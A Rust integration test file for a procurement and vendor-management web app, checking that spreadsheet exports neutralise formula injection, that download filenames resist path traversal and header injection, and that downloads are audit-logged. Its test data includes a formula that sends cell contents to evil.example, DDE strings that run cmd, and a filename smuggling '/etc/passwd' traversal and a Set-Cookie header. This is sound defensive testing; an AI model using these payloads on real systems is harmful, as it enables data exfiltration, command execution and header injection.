//! What vendors type cannot run in the workbooks staff download, and the names of downloaded files
//! cannot break out of their header or their folder.

mod common;
use common::Method;

use calamine::{Data, Reader};
use common::NTA;
use rocket::http::{Header, Status};
use serde_json::json;
use std::io::Cursor;

/// Values that a spreadsheet would run as formulas (or DDE commands) if written as typed.
const PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"開く\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
];

/// Every formula in the workbook, and every text cell.
fn formulas_and_texts(bytes: &[u8]) -> (Vec<String>, Vec<String>) {
    let mut workbook = calamine::open_workbook_auto_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let (mut formulas, mut texts) = (Vec::new(), Vec::new());
    for name in workbook.sheet_names() {
        let range = workbook.worksheet_formula(&name).unwrap();
        formulas.extend(range.used_cells().map(|(_, _, f)| f.clone()));
        let values = workbook.worksheet_range(&name).unwrap();
        texts.extend(values.used_cells().filter_map(|(_, _, v)| match v {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
    }
    (formulas, texts)
}

#[rocket::async_test]
async fn vendor_text_is_never_a_formula_in_any_export() {
    let app = common::spawn().await;
    let (status, department) = app
        .send_json(
            Method::Post,
            "/api/v1/departments",
            &json!({"name": PAYLOADS[4]}),
        )
        .await;
    assert_eq!(status, Status::Created, "{department}");
    let (status, vendor) = app
        .send_json(
            Method::Post,
            "/api/v1/vendors",
            &json!({"corporate_number": NTA, "name": PAYLOADS[0], "address": PAYLOADS[1],
                    "contact_person": PAYLOADS[2], "phone": "03-1234-5678"}),
        )
        .await;
    assert_eq!(status, Status::Created, "{vendor}");
    let (status, contract) = app
        .send_json(
            Method::Post,
            "/api/v1/contracts",
            &json!({"contract_number": "=2+2", "title": PAYLOADS[3], "department_id": department["id"],
                    "vendor_id": vendor["id"], "start_date": "2024-04-01", "end_date": "2025-03-31",
                    "handles_personal_data": true, "notes": PAYLOADS[5]}),
        )
        .await;
    assert_eq!(status, Status::Created, "{contract}");
    let contract_id = contract["id"].as_i64().unwrap();
    let sheet = common::check_sheet(
        NTA,
        PAYLOADS[0],
        |_| "はい",
        |index| PAYLOADS[index % PAYLOADS.len()],
    );
    let submission_id = app.submit_check_sheet(contract_id, sheet).await;
    let (status, review) = app
        .send_json(
            Method::Post,
            &format!("/api/v1/checklists/{submission_id}/review"),
            &json!({"decision": "return", "comment": PAYLOADS[2]}),
        )
        .await;
    assert_eq!(status, Status::Ok, "{review}");
    let (status, tender) = app
        .send_json(
            Method::Post,
            "/api/v1/tenders",
            &json!({"title": PAYLOADS[0], "department_id": department["id"], "evaluation_date": "2026-04-01"}),
        )
        .await;
    assert_eq!(status, Status::Created, "{tender}");
    let (status, bidder) = app
        .send_json(
            Method::Post,
            &format!("/api/v1/tenders/{}/bidders", tender["id"]),
            &json!({"corporate_number": NTA}),
        )
        .await;
    assert_eq!(status, Status::Created, "{bidder}");

    let exports = [
        format!("/checklists/{submission_id}/export.xlsx"),
        "/checklists/matrix.xlsx".to_string(),
        "/reports/retention.xlsx".to_string(),
        "/reports/all.xlsx".to_string(),
        "/audit/export.xlsx".to_string(),
        format!("/tenders/{}/evaluation.xlsx", tender["id"]),
        format!("/contracts/{contract_id}/checklist-template.xlsx"),
    ];
    for path in &exports {
        let response = app.client.get(path.as_str()).dispatch().await;
        assert_eq!(response.status(), Status::Ok, "{path}");
        let bytes = response.into_bytes().await.unwrap();
        let (formulas, texts) = formulas_and_texts(&bytes);
        let user_formulas: Vec<&String> = formulas
            .iter()
            .filter(|f| PAYLOADS.iter().any(|p| p.contains(f.as_str())) || f.contains("cmd"))
            .collect();
        assert!(
            user_formulas.is_empty(),
            "{path}: typed text became formulas: {user_formulas:?}"
        );
        let shown: Vec<&&str> = PAYLOADS
            .iter()
            .filter(|p| texts.iter().any(|t| t.contains(**p)))
            .collect();
        assert!(
            !shown.is_empty() || path.contains("template"),
            "{path}: the typed text is not in the workbook as text"
        );
        eprintln!(
            "{path}: {} formulas of its own, typed text kept as text: {shown:?}",
            formulas.len()
        );
    }
}

#[rocket::async_test]
async fn download_names_cannot_traverse_or_inject_headers() {
    let app = common::spawn().await;
    let (_, vendor_id) = app
        .seed_department_and_vendor("税務課", NTA, "株式会社A")
        .await;
    let (status, certification) = app
        .send_json(
            Method::Post,
            &format!("/api/v1/vendors/{vendor_id}/certifications"),
            &json!({"scheme": "isms", "number": "JQA-IM0685", "issued_on": "2025-04-01",
                    "valid_until": "2028-03-31", "scope": "全社"}),
        )
        .await;
    assert_eq!(status, Status::Created, "{certification}");
    let hostile = "..%2F..%2Fetc%2Fpasswd%0D%0ASet-Cookie%3A%20evil%3D1%0D%0A%22%3B%20x%3D.pdf";
    let response = app
        .client
        .put(format!(
            "/api/v1/certifications/{}/file?file_name={hostile}",
            certification["id"]
        ))
        .header(Header::new("X-CSRF-Token", app.csrf.clone()))
        .body(common::PDF)
        .dispatch()
        .await;
    assert_eq!(response.status(), Status::Ok);
    let response = app
        .client
        .get(format!("/certifications/{}/file", certification["id"]))
        .dispatch()
        .await;
    assert_eq!(response.status(), Status::Ok);
    assert!(
        response
            .headers()
            .get("Set-Cookie")
            .all(|c| !c.contains("evil")),
        "no header was injected"
    );
    let disposition = response
        .headers()
        .get_one("Content-Disposition")
        .unwrap()
        .to_string();
    assert!(
        !disposition.contains(['\r', '\n', '/', '\\']),
        "{disposition}"
    );
    let ascii = disposition
        .split("filename=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap();
    assert!(
        ascii
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')),
        "{disposition}"
    );
    assert!(
        ascii.ends_with(".pdf") && !ascii.starts_with('.'),
        "{ascii}"
    );
}

/// Issue 21, finding 10: evidence files and check-sheet originals left the system without a trace.
#[rocket::async_test]
async fn every_download_of_a_file_is_in_the_audit_log() {
    let app = common::spawn().await;
    let (department, vendor) = app
        .seed_department_and_vendor("契約課", NTA, "国税株式会社")
        .await;
    let contract = app.create_contract("K-DL", department, vendor).await;
    let (certification, report, deletion) = common::seed_evidence(&app, vendor, contract).await;
    let submission = app
        .submit_check_sheet(contract, common::filled_check_sheet(NTA, |_| "はい"))
        .await;
    let (_, before) = app.get_html("/audit?action=download").await;
    for uri in [
        format!("/certifications/{certification}/file"),
        format!("/audit-reports/{report}/file"),
        format!("/deletion-certificates/{deletion}/file"),
        format!("/checklists/{submission}/file"),
    ] {
        let response = app.client.get(uri.clone()).dispatch().await;
        assert_eq!(response.status(), Status::Ok, "{uri}");
    }
    let (_, log) = app.get_html("/audit?action=download").await;
    assert_eq!(before.matches("ダウンロード「").count(), 0);
    assert_eq!(log.matches("ダウンロード「").count(), 4, "{log}");
    for entity in [
        "certification",
        "audit_report",
        "deletion_certificate",
        "checklist",
    ] {
        assert!(log.contains(entity), "{entity}");
    }
}
